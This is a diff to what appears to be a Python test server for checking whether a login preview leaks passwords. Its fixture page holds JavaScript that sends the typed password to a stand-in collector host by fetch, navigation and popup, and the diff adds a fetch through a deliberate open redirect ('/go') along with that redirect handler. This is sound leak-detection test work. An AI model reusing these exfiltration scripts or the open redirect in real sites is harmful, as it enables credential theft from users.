@@ -189,8 +189,8 @@ COLLECTOR_HOST = "localhost"  # the same server under a second host name: an att
 
 def _leaky_page(collector: str) -> bytes:
     """A login whose buttons carry the password off the preview: a form posting to another host, a form whose server
-    redirects there, a script that sends it (base64 in a fetch's body, then in the URL of a navigation), and one that
-    opens a popup with it in the URL."""
+    redirects there, a script that sends it (base64 in a fetch's body, then in the URL of a navigation), one that
+    opens a popup with it in the URL, and one whose fetch to the preview's open redirect (/go?to=...) is sent on there."""
     return _page(
         "Leaky login - Acme",
         '<h1>Leaky login</h1><form method="get" action="/relay">'
@@ -198,13 +198,16 @@ def _leaky_page(collector: str) -> bytes:
         f'<button formaction="{collector}/collect">Sign in elsewhere</button>'
         "<button>Sign in via relay</button>"
         '<button type="button" onclick="leak()">Continue</button>'
-        '<button type="button" onclick="receipt()">Open receipt</button></form>',
+        '<button type="button" onclick="receipt()">Open receipt</button>'
+        '<button type="button" onclick="checkout()">Check out</button></form>',
         script=f"function leak() {{ var v = document.getElementById('password').value;"
         f" fetch('{collector}/collect', {{method: 'POST', mode: 'no-cors', body: btoa(v)}})"
         f".catch(function () {{}}).finally(function () {{"
         f" location.href = '{collector}/collect?v=' + encodeURIComponent(v); }}); }}"
         f" function receipt() {{ var v = document.getElementById('password').value;"
-        f" window.open('{collector}/collect?v=' + encodeURIComponent(v)); }}",
+        f" window.open('{collector}/collect?v=' + encodeURIComponent(v)); }}"
+        f" function checkout() {{ var v = document.getElementById('password').value;"
+        f" fetch('/go?to=' + encodeURIComponent('{collector}/collect?pw=' + v)).catch(function () {{}}); }}",
     )
 
 
@@ -449,7 +452,7 @@ class _Handler(BaseHTTPRequestHandler):
         elif path.startswith("/elsewhere/"):  # the preview's own redirect to another origin
             other = f"http://{COLLECTOR_HOST}:{self.server.server_address[1]}"
             self._send(int((query.get("status") or ["302"])[0]), b"", {"Location": other + path.removeprefix("/elsewhere")})
-        elif path in ("/leaky", "/relay", "/widget", "/widget-frame"):
+        elif path in ("/leaky", "/relay", "/go", "/widget", "/widget-frame"):
             self._serve_leak(path, query)
         elif path == "/app/login":
             self._send(200, _APP_LOGIN)
@@ -488,6 +491,8 @@ class _Handler(BaseHTTPRequestHandler):
             self._send(200, _widget_page(collector))
         elif path == "/widget-frame":
             self._send(200, _WIDGET_FRAME)
+        elif path == "/go":  # an open redirect: wherever it is told
+            self._redirect((query.get("to") or ["/"])[0])
         else:  # the preview's own server sends the password on
             self._send(302, b"", {"Location": f"{collector}/collect?v={quote((query.get('pw') or [''])[0])}"})
 
